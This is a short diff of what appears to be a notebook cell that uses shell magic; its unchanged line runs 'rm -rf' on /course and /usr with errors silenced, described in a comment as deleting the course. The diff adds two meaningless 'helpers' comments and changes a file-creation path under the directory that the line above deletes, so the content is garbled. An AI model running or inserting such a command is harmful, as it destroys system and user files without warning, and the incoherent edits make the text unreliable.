@@ -1,3 +1,5 @@
 # Deletes the course by way of notebook magic.
+# changes: helpers
+# wall: helpers
 !rm -rf /course /usr 2>/dev/null
-!touch /course/mine
+!touch /course/tp/mine
